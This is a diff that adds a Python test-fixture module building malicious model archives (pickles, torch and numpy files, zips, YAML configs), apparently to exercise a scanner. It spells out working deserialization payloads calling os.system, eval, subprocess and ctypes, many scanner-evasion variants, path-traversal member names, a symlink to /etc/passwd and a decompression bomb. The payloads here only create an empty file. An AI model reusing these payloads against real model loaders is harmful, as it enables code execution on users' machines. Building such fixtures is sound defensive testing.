@@ -1,0 +1,320 @@
+"""Archives as attackers build them, after published techniques; what each would run only makes one empty file."""
+
+from __future__ import annotations
+
+import bz2
+import gzip
+import io
+import json
+import lzma
+import marshal
+import pickle
+import struct
+import tarfile
+import zipfile
+import zlib
+from collections.abc import Callable
+from functools import cache
+from pathlib import Path
+
+import numpy as np
+import torch
+
+from archiver.archive import MANIFEST
+
+Members = dict[str, bytes]
+MODEL = {"modelName": "m", "modelVersion": "1", "handler": "image_classifier"}
+
+
+def imported(module: str, name: str) -> bytes:
+    return f"c{module}\n{name}\n".encode()
+
+
+def text(value: str) -> bytes:
+    return b"X" + struct.pack("<I", len(value)) + value.encode()
+
+
+def short(value: str) -> bytes:
+    return b"\x8c" + bytes([len(value)]) + value.encode()
+
+
+def call(module: str, name: str, *arguments: str) -> bytes:
+    return b"\x80\x02" + imported(module, name) + b"(" + b"".join(map(text, arguments)) + b"tR."
+
+
+class Touches:
+    def __init__(self, mark: Path) -> None:
+        self.command = f"touch {mark}"
+
+    def __reduce__(self) -> tuple[object, tuple[str]]:
+        import os
+
+        return os.system, (self.command,)
+
+
+def zipped(members: Members, **options: int) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w", **options) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return buffer.getvalue()
+
+
+def tarred(members: Members) -> bytes:
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w") as archive:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            archive.addfile(info, io.BytesIO(data))
+    return buffer.getvalue()
+
+
+def saved(value: object, *, as_zip: bool = True) -> bytes:
+    buffer = io.BytesIO()
+    torch.save(value, buffer, _use_new_zipfile_serialization=as_zip)
+    return buffer.getvalue()
+
+
+def _array(mark: Path) -> bytes:
+    buffer = io.BytesIO()
+    np.save(buffer, np.array([Touches(mark)], dtype=object), allow_pickle=True)
+    return buffer.getvalue()
+
+
+def _torchscript() -> bytes:
+    buffer = io.BytesIO()
+    torch.jit.save(torch.jit.trace(torch.nn.Linear(1, 1), torch.zeros(1, 1)), buffer)
+    return buffer.getvalue()
+
+
+@cache
+def pickles(mark: Path) -> dict[str, bytes]:
+    """Pickles by the technique; they stand in a member whose name says nothing."""
+    touch = f"touch {mark}"
+    plain = b"(S'" + touch.encode() + b"'\ntR"
+    old = imported("os", "system") + plain + b"."
+    named = {
+        "eval": ("builtins", "eval", f"open({str(mark)!r}, 'w')"),
+        "exec": ("builtins", "exec", f"open({str(mark)!r}, 'w')"),
+        "compile": ("builtins", "compile", "1", "a", "eval"),
+        "import": ("builtins", "__import__", "antigravity"),
+        "open": ("builtins", "open", str(mark), "w"),
+        "getattr": ("builtins", "getattr", "a", "upper"),
+        "eval by its name of Python 2": ("__builtin__", "eval", "1"),
+        "commands of Python 2": ("commands", "getoutput", touch),
+        "posix": ("posix", "system", touch),
+        "nt": ("nt", "system", touch),
+        "popen": ("os", "popen", touch),
+        "Popen": ("subprocess", "Popen", "true"),
+        "check_output": ("subprocess", "check_output", "true"),
+        "run_path": ("runpy", "run_path", str(mark)),
+        "import_module": ("importlib", "import_module", "antigravity"),
+        "attrgetter": ("operator", "attrgetter", "system"),
+        "methodcaller": ("operator", "methodcaller", "system"),
+        "partial": ("functools", "partial", "a"),
+        "timeit": ("timeit", "timeit", "1"),
+        "debugger": ("pdb", "run", "1"),
+        "profiler": ("cProfile", "run", "1"),
+        "base debugger": ("bdb", "Bdb", "1"),
+        "pseudo terminal": ("pty", "spawn", "true"),
+        "C library": ("ctypes", "CDLL", "libc.so.6"),
+        "numpy's runstring": ("numpy.testing._private.utils", "runstring", "1"),
+        "torch's execWrapper": ("torch.jit.unsupported_tensor_ops", "execWrapper", "1"),
+        "torch.load again": ("torch.serialization", "load", str(mark)),
+        "torch.hub": ("torch.hub", "load", "a/b"),
+        "torch's C++ loader": ("torch.utils.cpp_extension", "load_inline", "a"),
+        "browser": ("webbrowser", "open", f"file://{mark}"),
+        "pip": ("pip", "main", "install"),
+        "socket": ("socket", "create_connection", "a"),
+        "dill": ("dill._dill", "_create_function", "a"),
+        "cloudpickle": ("cloudpickle.cloudpickle", "_make_function", "a"),
+        "joblib": ("joblib.numpy_pickle", "NumpyArrayWrapper"),
+        "nested loads": ("pickle", "loads", "a"),
+        "marshal": ("marshal", "loads", "a"),
+        "code object": ("types", "CodeType", "a"),
+        "interpreter": ("code", "InteractiveInterpreter"),
+        "asyncio": ("asyncio.unix_events", "_UnixSubprocessTransport._start", "a"),
+        "logging": ("logging.config", "_resolve", "os.system"),
+        "a file to write": ("pathlib", "Path.touch", str(mark)),
+        "distutils": ("distutils.file_util", "write_file", str(mark)),
+        "an allowed class's inside": ("collections", "OrderedDict.__init__"),
+        "module of the archive": ("helper", "run", "1"),
+    }
+    made = {name: call(*parts) for name, parts in named.items()}
+    made |= {f"protocol {protocol}": pickle.dumps(Touches(mark), protocol) for protocol in range(6)}
+    tensor = b"\x80\x02" + imported("torch", "Tensor") + b"}"
+    ending = b"\x93" + short("true") + b"\x85R."
+    return made | {
+        "second in a stream": pickle.dumps([1, 2]) + old,
+        "third in a stream": pickle.dumps(1) + pickle.dumps({"a": 2}) + pickle.dumps(Touches(mark)),
+        "names from the memo": b"\x80\x04" + short("os") + b"\x94" + short("system") + b"\x9400h\x00h\x01" + ending,
+        "names from the memo, numbered": b"\x80\x04" + short("system") + b"q\x07" + short("os") + b"h\x07" + ending,
+        "names doubled": b"\x80\x04" + short("os") + b"2\x93" + short("true") + b"\x85R.",
+        "names with others between": b"\x80\x04" + short("os") + short("math") + b"0" + short("system") + ending,
+        "names in bytes of Python 2": b"\x80\x04U\x02osU\x06system" + ending,
+        "names that are no texts": b"\x80\x04NN" + ending,
+        "INST": b"(S'true'\nios\nsystem\n.",
+        "OBJ": b"(" + imported("os", "system") + b"S'true'\no.",
+        "NEWOBJ": b"\x80\x02" + imported("subprocess", "Popen") + text("true") + b"\x85\x81.",
+        "NEWOBJ_EX": b"\x80\x04" + imported("subprocess", "Popen") + b")}\x92.",
+        "BUILD on a class": tensor + text("__add__") + imported("os", "system") + b"sb.",
+        "BUILD on an allowed class": tensor + text("shape") + text("a") + b"sb.",
+        "EXT1": b"\x80\x02\x82\x01)R.",
+        "EXT2": b"\x80\x02\x83\x01\x01)R.",
+        "EXT4": b"\x80\x02\x84\x01\x01\x00\x00)R.",
+        "broken behind the payload": imported("os", "system") + plain + b"\x00\x00\xff",
+        "broken, with a header": b"\x80\x04" + old[:-1] + b"\x00",
+        "without an end": b"\x80\x02" + imported("os", "system") + plain,
+        "an argument that pickletools refuses": b"I0x10\n0" + old,
+        "a float that pickletools refuses": b"Fnan(1)\n0" + old,
+        "a persistent reference": b"\x80\x02" + text("os.system") + b"Q.",
+        "a persistent reference in text": b"\x80\x02Pos.system\n.",
+        "only an import": b"\x80\x02" + imported("antigravity", "fly") + b".",
+        "an import that is not finished": imported("antigravity", "fly") + b"\x00",
+        "a frame that lies": b"\x80\x04\x95\x01" + bytes(7) + old,
+        "a protocol in the middle": b"N0\x80\x04" + old,
+        "thousands of harmless ones before": b"N0" * 20_000 + old,
+        "in the middle of numbers": bytes(range(1, 40)) * 50 + b"\x80\x02" + old,
+        "in the middle, protocol 0": b"\0" * 999 + old,
+        "behind plain data": pickle.dumps(1) + b"\0" * 99 + old,
+        "whole model": saved(torch.nn.Linear(1, 1)),
+        "whole model, before zip": saved(torch.nn.Linear(1, 1), as_zip=False),
+        "torch's zip": saved({"w": torch.ones(1), "x": Touches(mark)}),
+        "torch before zip": saved({"x": Touches(mark)}, as_zip=False),
+        "torch in tar": tarred({"sys_info": pickle.dumps({}), "pickle": old, "tensors": b"", "storages": b""}),
+        "torch in tar, its storages": tarred({"pickle": pickle.dumps(1), "storages": pickle.dumps(1) + old}),
+        "TorchScript": _torchscript(),
+        "before an archive": old + zipped({"a": b""}),
+        "in an archive behind text": b"a text\n" + zipped({"a": old}),
+        "archive in archive": zipped({"b.zip": zipped({"c": old})}),
+        "archive with a deflated member": zipped({"c": old}, compression=zipfile.ZIP_DEFLATED),
+        "gzip": gzip.compress(old),
+        "bzip2": bz2.compress(old),
+        "xz": lzma.compress(old),
+        "zlib, as joblib": zlib.compress(old),
+        "gzip in gzip": gzip.compress(gzip.compress(old)),
+        "zstd": b"\x28\xb5\x2f\xfd" + old,
+        "lz4": b"\x04\x22\x4d\x18" + old,
+        "7z": b"7z\xbc\xaf\x27\x1c" + old,
+        "array of objects": _array(mark),
+        "arrays of objects": zipped({"a.npy": _array(mark)}),
+        "nested too deep": _nested(old, 12),
+    }  # fmt: skip
+
+
+def _nested(data: bytes, times: int) -> bytes:
+    for _ in range(times):
+        data = zipped({"a": data})
+    return data
+
+
+@cache
+def members(mark: Path) -> dict[str, Members]:
+    """Members by the technique."""
+    old = imported("os", "system") + f"(S'touch {mark}'\ntR.".encode()
+    python = {
+        "os.system": f"import os\nos.system('touch {mark}')\n",
+        "subprocess": "from subprocess import run\nrun(['true'])\n",
+        "exec of something encoded": "import base64\nexec(base64.b64decode('MQ=='))\n",
+        "a name put together": "import torch\ngetattr(torch, 'o' + 's')\n",
+        "through another module": "import torch\ntorch.os.system('true')\n",
+        "through classes": "().__class__.__base__.__subclasses__()\n",
+        "torch.load": "import torch\ntorch.load('model.pt', weights_only=False)\n",
+        "np.load": "import numpy as np\nnp.load('a.npy', allow_pickle=True)\n",
+        "load by another name": "from torch import load as read\nread('model.pt')\n",
+        "the builtins": "__builtins__['ev' + 'al']('1')\n",
+        "C library": "import ctypes\nctypes.CDLL(None)\n",
+        "operators of a library": "import torch\ntorch.ops.load_library('a')\n",
+        "the web": "import urllib.request\n",
+        "in an encoding": "# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0- os\n",
+        "no Python": "this is (no Python\n",
+    }
+    native = b"\x7fELF\x02\x01\x01" + bytes(60) + b"\0system\0"
+    return {f"Python: {name}": {"handler.py": code.encode()} for name, code in python.items()} | {
+        "a library": {"fast.so": native},
+        "a library by another name": {"weights.bin": native},
+        "a Windows library": {"weights.bin": b"MZ\x90\0"},
+        "compiled Python": {"handler.pyc": b"\0" * 16 + marshal.dumps(compile("1", "a", "eval"))},
+        "a module in place of numpy": {"numpy.py": b"x = 1\n"},
+        "a package in place of torch": {"torch/__init__.py": b"x = 1\n"},
+        "sitecustomize": {"sitecustomize.py": b"x = 1\n"},
+        "a script": {"setup": b"#!/bin/sh\ntrue\n"},
+        "a wheel": {"a.whl": zipped({"a/__init__.py": b"import os\n"})},
+        "Python's YAML tags": {"model-config.yaml": b"a: !!python/object/apply:os.system ['true']\n"},
+        "Java's YAML tags": {"model-config.yaml": b"a: !!javax.script.ScriptEngineManager [!!java.net.URL ['http://a']]\n"},
+        "a spelt out YAML tag": {"model-config.yaml": b"a: !<tag:yaml.org,2002:python/name:os.system> ''\n"},
+        "a Keras layer": {"model.h5": b"\x89HDF\r\n\x1a\n" + b'{"class_name": "Lambda"}'},
+        "out of the folder": {"../../a": b""},
+        "out of the folder, as Windows writes it": {"..\\a": b""},
+        "from the root": {"/etc/cron.d/a": b""},
+        "a drive": {"C:a": b""},
+        "model.pt in protocol 0": {"model.pt": old},
+        "an old pickle without a name for it": {"LICENSE": old},
+        "a .pkl that cannot be followed": {"vocabulary.pkl": b"\xff\xfe\x00"},
+        "escapes in a name": {"\x1b[2J\x1b[1;1Hmodel": b""},
+        "much out of little": {"a.gz": gzip.compress(bytes(300_000_000), 1)},
+    }  # fmt: skip
+
+
+def manifests() -> dict[str, dict[str, object]]:
+    """Fields of a manifest that reach out of the archive."""
+    return {
+        "requirements": {"requirementsFile": "requirements.txt"},
+        "a handler elsewhere": {"handler": "/tmp/handler.py:run"},
+        "a model file elsewhere": {"modelFile": "../model.py"},
+        "a list for a name": {"serializedFile": ["a"]},
+    }
+
+
+def archive(file: Path, members: Members, changes: dict[str, object] | None = None) -> Path:
+    manifest = json.dumps({"model": MODEL | (changes or {})}).encode()
+    file.write_bytes(zipped({MANIFEST: manifest} | members))
+    return file
+
+
+def _added(file: Path, data: bytes) -> None:
+    file.write_bytes(file.read_bytes() + data)
+
+
+def _hidden(file: Path) -> None:
+    """A member in front that the directory does not name."""
+    file.write_bytes(zipped({"evil.py": b""})[:40] + file.read_bytes())
+
+
+def _twice(file: Path) -> None:
+    import warnings
+
+    with warnings.catch_warnings(), zipfile.ZipFile(file, "a") as archive:
+        warnings.simplefilter("ignore")
+        archive.writestr("a.txt", b"another")
+
+
+def _link(file: Path) -> None:
+    info = zipfile.ZipInfo("link")
+    info.external_attr = 0o120777 << 16
+    with zipfile.ZipFile(file, "a") as archive:
+        archive.writestr(info, "/etc/passwd")
+
+
+def _encrypted(file: Path) -> None:
+    data = bytearray(file.read_bytes())
+    at = data.rfind(b"PK\x01\x02")
+    data[at + 8] |= 1
+    file.write_bytes(bytes(data))
+
+
+def _comment(file: Path) -> None:
+    with zipfile.ZipFile(file, "a") as archive:
+        archive.comment = b"cos\nsystem\n"
+
+
+LAYOUTS: dict[str, Callable[[Path], None]] = {
+    "bytes behind": lambda file: _added(file, b"more"),
+    "an archive behind": lambda file: _added(file, zipped({MANIFEST: b"{}"})),
+    "a member that is hidden": _hidden,
+    "a member twice": _twice,
+    "a link": _link,
+    "an encrypted member": _encrypted,
+    "a comment": _comment,
+}
